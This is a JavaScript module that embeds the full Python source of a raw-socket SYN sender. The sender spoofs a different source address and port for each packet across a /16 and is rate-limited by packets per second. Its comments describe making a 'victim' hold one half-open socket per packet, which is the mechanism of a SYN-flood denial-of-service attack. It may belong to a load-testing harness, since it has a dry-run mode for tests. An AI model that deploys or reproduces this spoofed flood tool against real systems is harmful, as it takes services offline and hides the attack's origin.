// Source of a python3 raw-socket IPv4 SYN sender that makes every SYN a new half-open entry; run with `python3 -c`.
// argv: TARGET PORT PPS COUNT END_EPOCH_S NET16 [dry]   NET16 is the first two octets of the /16 the sources lie in
// ("198.19"). Packet i comes from NET16.(i mod 65534 + 1) port 1024 + i div 65534: no two packets share a source
// address and port, so the victim keeps one request socket per packet. Only the last two octets are ever written, so
// no source leaves the /16. The TCP checksum is updated, not recomputed (only the source's low word and the port vary).
// Prints "sent N" when it stops: after COUNT packets, at END_EPOCH_S (wall clock), or on SIGINT/SIGTERM.
// With "dry" it sends nothing and prints packets 0..COUNT-1 as hex, one a line (for the test).
import { PY_STOP_AND_DEADLINE } from './py-sender.js';

export const SYN4_SENDER = String.raw`
import signal, socket, struct, sys, time
target, port, pps, count, end_at, net16 = sys.argv[1:7]
dry = sys.argv[7:8] == ["dry"]
port, pps, count, end_at = int(port), float(pps), int(count), float(end_at)
hi = bytes(int(x) for x in net16.split("."))
assert len(hi) == 2 and count <= 65534 * 64511
dst = socket.inet_aton(target)
pkt = bytearray(40)
struct.pack_into("!BBHHHBBH2s2s4s", pkt, 0, 0x45, 0, 40, 0, 0, 64, 6, 0, hi, b"\0\0", dst)
struct.pack_into("!HHIIBBHHH", pkt, 20, 0, port, 0x53594e31, 0, 5 << 4, 0x02, 64240, 0, 0)
words = struct.unpack("!14H", bytes(pkt[12:40])) + (6, 20)
base = sum(words)
sock = None if dry else socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
${PY_STOP_AND_DEADLINE}
sent = 0
pack = struct.pack_into
while sent < count and not stop:
    now = time.monotonic()
    if now >= deadline: break
    due = min(count, int((now - start) * pps) + 1, sent + 4096)
    while sent < due:
        low = sent % 65534 + 1
        sport = 1024 + sent // 65534
        c = base + low + sport
        c = (c & 0xFFFF) + (c >> 16)
        c = (c & 0xFFFF) + (c >> 16)
        pack("!H", pkt, 14, low)
        pack("!H", pkt, 20, sport)
        pack("!H", pkt, 36, ~c & 0xFFFF)
        if dry:
            print(pkt.hex())
        else:
            try:
                sock.sendto(pkt, (target, 0))
            except OSError:
                time.sleep(0.0002)
                break
        sent += 1
    if sent < due: continue
    ahead = sent / pps - (time.monotonic() - start)
    if ahead > 0: time.sleep(min(ahead, 0.01))
print("sent %d" % sent, flush=True)
`;
